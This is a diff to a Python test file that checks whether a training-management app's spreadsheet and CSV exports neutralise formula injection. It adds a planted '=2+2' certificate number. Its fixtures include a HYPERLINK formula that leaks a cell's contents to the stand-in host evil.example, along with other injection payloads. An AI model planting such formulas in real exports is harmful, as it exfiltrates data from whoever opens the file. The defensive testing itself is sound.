@@ -12,14 +12,14 @@ from openpyxl import load_workbook
 from sqlalchemy import select, update
 
 from nq05.auth.models import User
-from nq05.classes.models import TrainingClass
+from nq05.classes.models import Enrolment, TrainingClass
 from nq05.plans.models import Plan
 from nq05.reference.models import Programme
 from nq05.staff.models import Person, Unit
 from tests.web.helpers import sign_in_session
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&C8,"Bấm vào đây")'
-PLANTED = {LEAK, "=1+1", "@SUM(1)", "+84912", "-X"}
+PLANTED = {LEAK, "=1+1", "@SUM(1)", "+84912", "-X", "=2+2"}
 PACKAGE = Path(__file__).resolve().parents[1] / "nq05"
 
 #: every download route, and how this file asks for it (a route added later must be added here)
@@ -42,6 +42,8 @@ def _planted_world(runner, db, mini_bundle):
     db.session.execute(
         update(TrainingClass).where(TrainingClass.code == "MASTER_2013").values(place="@SUM(1)")
     )
+    master = select(TrainingClass.id).where(TrainingClass.code == "MASTER_2013").scalar_subquery()
+    db.session.execute(update(Enrolment).where(Enrolment.class_id == master).values(certificate_no="=2+2"))
     db.session.commit()
     snv = db.session.scalar(select(Unit).where(Unit.code == "SNV"))
     return {
@@ -80,6 +82,7 @@ def test_every_download_is_formula_safe_and_not_cached(app, client, runner, db, 
         found[endpoint] = _no_formula_and_planted_text(response.data)
 
     assert LEAK in found["classes.export"] and "@SUM(1)" in found["classes.export"]
+    assert "=2+2" in found["classes.export"]  # a certificate number
     assert {LEAK, "-X", "=1+1"} <= found["plans.export"]
     assert "=1+1" in found["plans.template"]
     assert "+84912" in found["progress.report_xlsx"]
@@ -91,7 +94,9 @@ def test_the_bundle_export_is_formula_safe(runner, db, mini_bundle, tmp_path):
     assert runner.invoke(args=["export", str(tmp_path / "bundle.xlsx")]).exit_code == 0
     assert runner.invoke(args=["export", str(tmp_path / "csv")]).exit_code == 0
 
-    assert PLANTED - {"@SUM(1)"} <= _no_formula_and_planted_text((tmp_path / "bundle.xlsx").read_bytes())
+    assert PLANTED - {"@SUM(1)", "=2+2"} <= _no_formula_and_planted_text(
+        (tmp_path / "bundle.xlsx").read_bytes()
+    )
     cells = [
         c for p in (tmp_path / "csv").iterdir() for row in csv.reader(open(p, encoding="utf-8")) for c in row
     ]
